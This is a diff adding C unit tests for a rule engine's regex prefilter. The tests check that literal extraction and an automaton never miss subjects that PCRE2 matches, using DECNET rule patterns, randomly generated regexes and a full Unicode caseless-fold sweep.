+static void
+superset_on_golden(const char *pattern, struct pf_literals *lits,
+    char **lines, size_t nlines)
+{
+	const struct pf_literals *sets[1] = { lits };
+	struct pf_automaton *a = pf_build(sets, 1);
+	pcre2_code *code = compile(pattern);
+	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
+	size_t i, j;
+
+	ck_assert(a != NULL && code != NULL && md != NULL);
+	for (i = 0; i < nlines; i++) {
+		size_t n = strlen(lines[i]);
+		char *v = malloc(3 * n + 1), *o;
+
+		ck_assert(v != NULL);
+		assert_superset(pattern, a, code, md, lines[i], n);
+		for (j = 0; j <= n; j++)
+			v[j] = (char)(lines[i][j] >= 'a' && lines[i][j] <= 'z' ?
+			    lines[i][j] - 32 : lines[i][j]);
+		assert_superset(pattern, a, code, md, v, n);
+		for (o = v, j = 0; j < n; j++) {
+			if (lines[i][j] == 's') {
+				*o++ = '\xc5';
+				*o++ = '\xbf';
+			} else if (lines[i][j] == 'k') {
+				*o++ = '\xe2';
+				*o++ = '\x84';
+				*o++ = '\xaa';
+			} else
+				*o++ = lines[i][j];
+		}
+		*o = '\0';
+		assert_superset(pattern, a, code, md, v, strlen(v));
+		free(v);
+	}
+	pcre2_match_data_free(md);
+	pcre2_code_free(code);
+	pf_free(a);
+}
+
+struct strings {
+	char **v;
+	size_t n, cap;
+};
+
+static int
+collect_strings(void *ud, const char *key, const ttpd_value *val)
+{
+	struct strings *s = ud;
+	const char *str;
+	size_t len;
+
+	(void)key;
+	if (jv_get_string(val, &str, &len) != TTPD_OK ||
+	    memchr(str, '\0', len) != NULL)
+		return 0;
+	if (s->n == s->cap) {
+		s->cap = s->cap ? s->cap * 2 : 1024;
+		s->v = realloc(s->v, s->cap * sizeof *s->v);
+		ck_assert(s->v != NULL);
+	}
+	s->v[s->n++] = strndup(str, len);
+	return 0;
+}
+
+static void
+golden_strings(struct strings *s)
+{
+	char *path, *text, *line, *save = NULL;
+
+	ck_assert(asprintf(&path, "%s/golden/events.jsonl",
+	    tu_env("TTPD_SHARED_DIR")) > 0);
+	text = tu_read_file(path, NULL);
+	ck_assert_msg(text != NULL, "cannot read %s", path);
+	for (line = strtok_r(text, "\n", &save); line != NULL;
+	    line = strtok_r(NULL, "\n", &save)) {
+		char err[256];
+		ttpd_value *ev = jv_parse(line, strlen(line), err, sizeof err);
+
+		ck_assert(ev != NULL);
+		jv_object_foreach(jv_object_get(ev, "payload"),
+		    collect_strings, s);
+		jv_decref(ev);
+	}
+	free(text);
+	free(path);
+}
+
+static int
+collect_patterns(void *ud, const char *key, const ttpd_value *val)
+{
+	struct strings *s = ud;
+	size_t i;
+
+	if (strcmp(key, "pattern") == 0)
+		return collect_strings(ud, key, val);
+	if (jv_type(val) == TTPD_VT_ARRAY)
+		for (i = 0; i < jv_array_size(val); i++)
+			collect_strings(s, key, jv_array_get(val, i));
+	return 0;
+}
+
+/* DECNET's engine patterns and its lifter-side YAML regexes. */
+START_TEST(test_pf_superset_decnet)
+{
+	struct fx fx;
+	struct strings pats = { NULL, 0, 0 }, lines = { NULL, 0, 0 };
+	size_t i, filtered = 0;
+
+	fx_open(&fx, NULL);
+	fx_load_decnet(&fx);
+	for (i = 0; i < fx.rules.n; i++)
+		jv_object_foreach(fx.rules.v[i]->pub.match, collect_patterns,
+		    &pats);
+	fx_close(&fx);
+	ck_assert_int_ge((int)pats.n, 23 + 16);
+	golden_strings(&lines);
+	ck_assert_int_gt((int)lines.n, 4000);
+	for (i = 0; i < pats.n; i++) {
+		struct pf_literals lits;
+		int rc = pf_extract(pats.v[i], strlen(pats.v[i]), &lits);
+
+		ck_assert_int_ge(rc, 0);
+		if (rc == 1) {
+			filtered++;
+			superset_on_golden(pats.v[i], &lits, lines.v,
+			    lines.n);
+		}
+		pf_literals_free(&lits);
+		free(pats.v[i]);
+	}
+	/* every shipped regex is simple enough to filter */
+	ck_assert_int_eq((int)filtered, (int)pats.n);
+	for (i = 0; i < lines.n; i++)
+		free(lines.v[i]);
+	free(lines.v);
+	free(pats.v);
+}
+END_TEST
+
+/* Deterministic generator (xorshift) for the random differential test. */
+static uint64_t rng_state = 0x9e3779b97f4a7c15u;
+
+static unsigned
+rnd(unsigned n)
+{
+	rng_state ^= rng_state << 13;
+	rng_state ^= rng_state >> 7;
+	rng_state ^= rng_state << 17;
+	return (unsigned)(rng_state % n);
+}
+
+static void
+gen_regex(char *out, size_t cap, int depth)
+{
+	static const char *const atoms[] = {
+		"a", "b", "c", "A", "B", "-", ".", "\\s", "\\w", "\\b", "\\d",
+		"[ab]", "[^a]", "^", "$", "\\.", "k", "s", "(?i)", "\\B",
+	};
+	static const char *const quants[] = {
+		"", "", "", "*", "+", "?", "{2}", "{0,2}", "{1,}", "*?", "++",
+	};
+	int items = 1 + (int)rnd(4), i;
+
+	for (i = 0; i < items; i++) {
+		size_t len = strlen(out);
+
+		if (len + 64 > cap)
+			return;
+		if (depth < 3 && rnd(5) == 0) {
+			static const char *const opens[] = {
+				"(", "(?:", "(?=", "(?!", "(?i:", "(?<=",
+			};
+			const char *open = opens[rnd(6)];
+
+			strcat(out, open);
+			gen_regex(out, cap, depth + 1);
+			if (rnd(2) && strlen(out) + 64 < cap) {
+				strcat(out, "|");
+				gen_regex(out, cap, depth + 1);
+			}
+			strcat(out, ")");
+		} else
+			strcat(out, atoms[rnd(sizeof atoms / sizeof atoms[0])]);
+		strcat(out, quants[rnd(sizeof quants / sizeof quants[0])]);
+	}
+	if (depth == 0 && rnd(3) == 0 && strlen(out) + 64 < cap) {
+		strcat(out, "|");
+		gen_regex(out, cap, depth + 1);
+	}
+}
+
+START_TEST(test_pf_superset_random)
+{
+	static const char *const alphabet[] = {
+		"a", "b", "c", "A", "B", "C", "k", "K", "s", "S", "-", ".",
+		" ", "\n", "1", "\xc5\xbf", "\xe2\x84\xaa", "\xc3\xa9",
+	};
+	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
+	int p, s, tried = 0, filtered = 0;
+
+	ck_assert(md != NULL);
+	for (p = 0; p < 6000; p++) {
+		char pattern[512] = "";
+		struct pf_literals lits;
+		const struct pf_literals *sets[1];
+		struct pf_automaton *a;
+		pcre2_code *code;
+		int rc;
+
+		gen_regex(pattern, sizeof pattern, 0);
+		if ((code = compile(pattern)) == NULL)
+			continue;
+		tried++;
+		rc = pf_extract(pattern, strlen(pattern), &lits);
+		ck_assert_int_ge(rc, 0);
+		if (rc == 0) {
+			pcre2_code_free(code);
+			continue;
+		}
+		filtered++;
+		sets[0] = &lits;
+		a = pf_build(sets, 1);
+		ck_assert(a != NULL);
+		for (s = 0; s < 300; s++) {
+			char subject[128] = "";
+			int len = (int)rnd(12), j;
+
+			for (j = 0; j < len; j++)
+				strcat(subject, alphabet[rnd(
+				    sizeof alphabet / sizeof alphabet[0])]);
+			assert_superset(pattern, a, code, md, subject,
+			    strlen(subject));
+		}
+		pf_free(a);
+		pf_literals_free(&lits);
+		pcre2_code_free(code);
+	}
+	/* the generator must exercise both outcomes */
+	ck_assert_int_gt(tried, 2000);
+	ck_assert_int_gt(filtered, 500);
+	ck_assert_int_lt(filtered, tried);
+	pcre2_match_data_free(md);
+}
+END_TEST
+
+/*
+ * pf_scan folds U+017F, U+212A, U+0130 and U+0131 to ASCII letters: with
+ * the linked PCRE2, no other non-ASCII character may match an ASCII
+ * character caselessly.
+ */
+START_TEST(test_pf_fold_table_complete)
+{
+	pcre2_code *code = compile("(?i)^[\\x{1}-\\x{7f}]$");
+	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
+	uint32_t cp;
+
+	ck_assert(code != NULL && md != NULL);
+	for (cp = 0x80; cp < 0x110000; cp++) {
+		unsigned char b[4];
+		size_t n;
+
+		if (cp >= 0xd800 && cp <= 0xdfff)
+			continue;
+		if (cp < 0x800) {
+			b[0] = (unsigned char)(0xc0 | cp >> 6);
+			b[1] = (unsigned char)(0x80 | (cp & 0x3f));
+			n = 2;
+		} else if (cp < 0x10000) {
+			b[0] = (unsigned char)(0xe0 | cp >> 12);
+			b[1] = (unsigned char)(0x80 | ((cp >> 6) & 0x3f));
+			b[2] = (unsigned char)(0x80 | (cp & 0x3f));
+			n = 3;
+		} else {
+			b[0] = (unsigned char)(0xf0 | cp >> 18);
+			b[1] = (unsigned char)(0x80 | ((cp >> 12) & 0x3f));
+			b[2] = (unsigned char)(0x80 | ((cp >> 6) & 0x3f));
+			b[3] = (unsigned char)(0x80 | (cp & 0x3f));
+			n = 4;
+		}
+		if (pcre2_match(code, b, n, 0, 0, md, NULL) >= 0)
+			ck_assert_msg(cp == 0x17f || cp == 0x212a ||
+			    cp == 0x130 || cp == 0x131,
+			    "U+%04X matches an ASCII character caselessly",
+			    (unsigned)cp);
+	}
+	pcre2_match_data_free(md);
+	pcre2_code_free(code);
+}
+END_TEST
+
+static Suite *
+rule_engine_suite(void)
+{
+	Suite *s = suite_create("rule_engine");
+	TCase *tc = tcase_create("behaviour");
+	TCase *pf = tcase_create("prefilter");
+	/* whole-corpus and whole-Unicode sweeps: slow under valgrind */
+	TCase *sweep = tcase_create("prefilter_sweeps");
+
+	tcase_add_loop_test(tc, test_decnet_quirks, 0, N_CONFIGS);
+	tcase_add_loop_test(tc, test_decnet_order_and_emits, 0, N_CONFIGS);
+	tcase_add_loop_test(tc, test_aux_evidence, 0, N_CONFIGS);
+	tcase_add_loop_test(tc, test_non_string_field, 0, N_CONFIGS);
+	tcase_add_loop_test(tc, test_default_fields, 0, N_CONFIGS);
+	tcase_add_test(tc, test_max_subject_bytes);
+	tcase_add_test(tc, test_bad_config);
+	tcase_add_loop_test(tc, test_invalid_pattern_rejected, 0, N_CONFIGS);
+	tcase_add_loop_test(tc, test_catastrophic_pattern, 0, N_CONFIGS);
+	tcase_add_loop_test(tc, test_unicode, 0, N_CONFIGS);
+	suite_add_tcase(s, tc);
+	tcase_add_test(pf, test_pf_extract);
+	tcase_add_test(pf, test_pf_superset_random);
+	suite_add_tcase(s, pf);
+	tcase_add_test(sweep, test_pf_superset_decnet);
+	tcase_add_test(sweep, test_pf_fold_table_complete);
+	suite_add_tcase(s, sweep);
+	return s;
+}
+
+int
+main(void)
+{
+	SRunner *sr = srunner_create(rule_engine_suite());
+	int failed;
+
+	log_set_level(TTPD_LOG_WARNING);        /* keep the log readable */
+
+	srunner_run_all(sr, CK_NORMAL);
+	failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
+}
